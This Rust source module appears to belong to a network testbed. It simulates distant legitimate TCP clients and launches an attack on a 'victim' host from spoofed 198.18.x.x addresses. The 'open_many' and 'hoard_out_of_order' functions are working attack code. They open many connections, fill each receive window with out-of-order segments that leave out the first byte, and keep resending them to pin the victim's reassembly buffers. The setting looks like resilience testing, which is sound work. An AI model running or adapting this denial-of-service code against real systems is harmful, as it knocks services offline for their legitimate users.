//! Clients without a kernel: handshakes over a path as long as one likes, and peers that hoard.

use crate::content;
use crate::flood::{Meter, Place, Running};
use crate::frame::{self, Heard, SYN_OPTIONS, Segment, flag, read_tcp};
use crate::victim::{IFACE, PORT, VICTIM, op};
use crate::wire::{Ear, Pace, Sender};
use perimeter::link::rng::SplitMix64;
use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap};
use std::io;
use std::net::Ipv4Addr;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

/// One end of a connection beyond the gateway, as far as its attacker cares.
#[derive(Clone, Copy, Debug)]
struct Peer {
    src: (Ipv4Addr, u16),
    /// The next number that we send.
    seq: u32,
    /// The next number that we expect.
    ack: u32,
    /// The victim's timestamp, to be echoed.
    timestamp: u32,
}

impl Peer {
    fn new(n: u32, rng: &mut SplitMix64) -> Peer {
        let [.., b, c] = n.to_be_bytes();
        Peer {
            src: (
                Ipv4Addr::new(198, 18, b, c),
                2000 + rng.below(60_000) as u16,
            ),
            seq: rng.next() as u32,
            ack: 0,
            timestamp: 0,
        }
    }

    fn send(&self, via: &Sender, place: &Place, flags: u8, at: u32, payload: &[u8]) -> bool {
        let mut options = [1, 1, 8, 10, 0, 0, 0, 2, 0, 0, 0, 0];
        options[8..].copy_from_slice(&self.timestamp.to_be_bytes());
        let syn = flags == flag::SYN;
        let mut out = Vec::with_capacity(80 + payload.len());
        let segment = Segment {
            macs: (place.gateway, place.victim),
            src: self.src,
            dst: (VICTIM, PORT),
            seq: self.seq.wrapping_add(at),
            ack: if syn { 0 } else { self.ack },
            flags,
            window: 64_240,
            options: if syn { &SYN_OPTIONS } else { &options },
            payload,
        };
        frame::tcp(&mut out, &segment);
        via.send(&out)
    }

    /// Ends the connection, all of whose request has arrived.
    fn leave(&self, via: &Sender, place: &Place) {
        self.send(via, place, flag::RST | flag::ACK, REQUEST, &[]);
    }

    /// What a SYN-ACK tells; whether it is one for this peer.
    fn meets(&mut self, h: &Heard<'_>) -> bool {
        let ours = h.flags & (flag::SYN | flag::ACK | flag::RST) == flag::SYN | flag::ACK
            && h.ack == self.seq.wrapping_add(1);
        if ours {
            self.seq = h.ack;
            self.ack = h.seq.wrapping_add(1);
            self.timestamp = h.timestamp.unwrap_or(0);
        }
        ours
    }
}

/// Clients that have left with a reset. A host would send it again for whatever still comes; these
/// send it once more when the flood that may have drowned it is over.
#[derive(Debug, Default)]
pub struct Gone(Vec<Peer>);

impl Gone {
    /// Adds those clients.
    pub fn join(&mut self, others: Gone) {
        self.0.extend(others.0);
    }

    /// Sends their resets again.
    ///
    /// # Errors
    /// No packet socket can be had.
    pub fn reset(&self, place: &Place) -> io::Result<()> {
        let via = Sender::open(IFACE)?;
        for peer in &self.0 {
            peer.leave(&via, place);
        }
        Ok(())
    }
}

/// What legitimate clients at a distance had.
#[derive(Clone, Copy, Debug, Default)]
pub struct Far {
    /// Connections tried.
    pub tried: u64,
    /// Connections that brought all bytes.
    pub good: u64,
    /// Connections that were reset.
    pub reset: u64,
}

/// Bytes that a far client asks for: one segment.
const REPLY: usize = 1000;
/// Bytes that it does so with.
const REQUEST: u32 = 5;

enum Step {
    /// A SYN, for the so-manieth time.
    Syn(u8),
    /// The handshake's last segment with the request, for the so-manieth time.
    Request(u8),
}

struct Client {
    peer: Peer,
    /// The handshake is over.
    met: bool,
    done: bool,
}

/// `count` clients that connect from a place `rtt` away, spread over `spread`, each of which asks
/// for a segment of data; what is lost they send again, as anybody does.
///
/// # Errors
/// No packet socket can be had.
pub fn far_clients(
    place: &Place,
    count: u32,
    rtt: Duration,
    spread: Duration,
) -> io::Result<(Far, Gone)> {
    let (via, ear) = (Sender::open(IFACE)?, Ear::open(IFACE)?);
    let mut rng = SplitMix64::new(place.seed ^ rtt.as_nanos() as u64);
    let start = Instant::now();
    let end = start + spread + Duration::from_secs(6);
    let mut due = BinaryHeap::new();
    let (mut clients, mut index) = (Vec::new(), HashMap::new());
    for n in 0..count {
        let peer = Peer::new(n, &mut rng);
        index.insert(peer.src, clients.len());
        due.push(Reverse((
            start + spread * n / count.max(1),
            clients.len(),
            0,
            false,
        )));
        clients.push(Client {
            peer,
            met: false,
            done: false,
        });
    }
    let mut far = Far {
        tried: u64::from(count),
        ..Far::default()
    };
    let mut open = count;
    let mut buf = vec![0; 65_536];
    while open > 0 && Instant::now() < end {
        while due
            .peek()
            .is_some_and(|Reverse((at, ..))| *at <= Instant::now())
        {
            let Some(Reverse((_, n, tries, requests))) = due.pop() else {
                break;
            };
            let c: &mut Client = &mut clients[n];
            let step = if requests {
                Step::Request(tries)
            } else {
                Step::Syn(tries)
            };
            if let Some((wait, requests)) = c.go(&via, place, &step) {
                due.push(Reverse((Instant::now() + wait, n, tries + 1, requests)));
            }
        }
        let Some(h) = ear.next(&mut buf).and_then(read_tcp) else {
            continue;
        };
        let Some(&n) = index.get(&h.dst).filter(|_| h.src == (VICTIM, PORT)) else {
            continue;
        };
        let c = &mut clients[n];
        if c.done {
            continue;
        }
        if h.flags & flag::RST != 0 {
            far.reset += 1;
            c.done = true;
        } else if !c.met && c.peer.meets(&h) {
            c.met = true;
            // It is there after the way here, and its answer after the way back.
            due.push(Reverse((Instant::now() + rtt, n, 0, true)));
        } else if c.met && h.payload.len() == REPLY && content::matches(0, h.payload) {
            far.good += 1;
            c.done = true;
            c.peer.ack = c.peer.ack.wrapping_add(REPLY as u32);
            c.peer.leave(&via, place);
        }
        open -= u32::from(c.done);
    }
    let gone = clients.iter().filter(|c| c.done).map(|c| c.peer);
    Ok((far, Gone(gone.collect())))
}

impl Client {
    /// Sends what is due; when to look again, and at what.
    fn go(&mut self, via: &Sender, place: &Place, step: &Step) -> Option<(Duration, bool)> {
        match step {
            _ if self.done => None,
            Step::Syn(tries) if !self.met && *tries < 4 => {
                self.peer.send(via, place, flag::SYN, 0, &[]);
                Some((Duration::from_secs(1), false))
            }
            Step::Request(tries) if *tries < 4 => {
                let head = [op::KEEP, 0, 0, (REPLY >> 8) as u8, REPLY as u8];
                self.peer.send(via, place, flag::ACK | flag::PSH, 0, &head);
                Some((Duration::from_secs(1), true))
            }
            _ => None,
        }
    }
}

/// Opens up to `count` connections and leaves them at that; those that came about.
fn open_many(place: &Place, count: u32, meter: &Meter) -> io::Result<Vec<Peer>> {
    let (via, ear) = (Sender::open(IFACE)?, Ear::open(IFACE)?);
    let mut rng = SplitMix64::new(place.seed ^ 0x00f);
    let mut waiting: HashMap<_, _> = (0..count)
        .map(|n| Peer::new(0x8000 + n, &mut rng))
        .map(|p| (p.src, p))
        .collect();
    let (mut open, mut buf) = (Vec::new(), vec![0; 65_536]);
    for _ in 0..4 {
        for p in waiting.values() {
            meter.frames.fetch_add(1, Ordering::Relaxed);
            p.send(&via, place, flag::SYN, 0, &[]);
        }
        let end = Instant::now() + Duration::from_secs(1);
        while !waiting.is_empty() && Instant::now() < end {
            let Some(h) = ear.next(&mut buf).and_then(read_tcp) else {
                continue;
            };
            let Some(p) = waiting.get_mut(&h.dst) else {
                continue;
            };
            if p.meets(&h) {
                meter.frames.fetch_add(1, Ordering::Relaxed);
                p.send(&via, place, flag::ACK, 0, &[]);
                open.push(*p);
                waiting.remove(&h.dst);
            }
        }
    }
    Ok(open)
}

/// Bytes of a segment that hoarders send.
const PIECE: usize = 1400;
/// Segments behind the hole: what an ordinary receive buffer takes.
const PIECES: u32 = 187;

/// Segments a second that keep a hoard alive.
const KEEP: u64 = 5_000;

/// Peers that send all of a window but its first byte; some of it again and again, so that the
/// victim has no quiet. Their connections stay when the attack ends, and are reset when it is
/// released.
///
/// # Errors
/// No packet socket can be had.
pub fn hoard_out_of_order(place: &Place, peers: u32, rate: u64) -> io::Result<Running> {
    let mut running = Running::new();
    let meter = running.meter();
    let open = open_many(place, peers, &meter)?;
    let (via, place, data) = (Sender::open(IFACE)?, *place, [5; PIECE]);
    let mut pace = Pace::new(rate);
    let mut all = (0..PIECES).flat_map(|k| open.iter().map(move |p| (k, p)));
    let mut left = open.len() * PIECES as usize;
    while left > 0 {
        for (piece, p) in all.by_ref().take(pace.due() as usize) {
            left -= 1;
            let sent = p.send(&via, &place, flag::ACK, 1 + piece * PIECE as u32, &data);
            meter.frames.fetch_add(u64::from(sent), Ordering::Relaxed);
        }
    }
    let resets = open.clone();
    running.thread(move |meter| {
        let (mut pace, mut rng) = (Pace::new(KEEP), SplitMix64::new(place.seed));
        while !meter.over() && !open.is_empty() {
            for _ in 0..pace.due() {
                let p = &open[rng.below(open.len() as u64) as usize];
                let at = 1 + rng.below(u64::from(PIECES)) as u32 * PIECE as u32;
                let sent = p.send(&via, &place, flag::ACK, at, &data);
                meter.frames.fetch_add(u64::from(sent), Ordering::Relaxed);
            }
        }
    });
    let via = Sender::open(IFACE)?;
    running.on_release(move || {
        for p in &resets {
            p.send(&via, &place, flag::RST, 0, &[]);
        }
    });
    Ok(running)
}
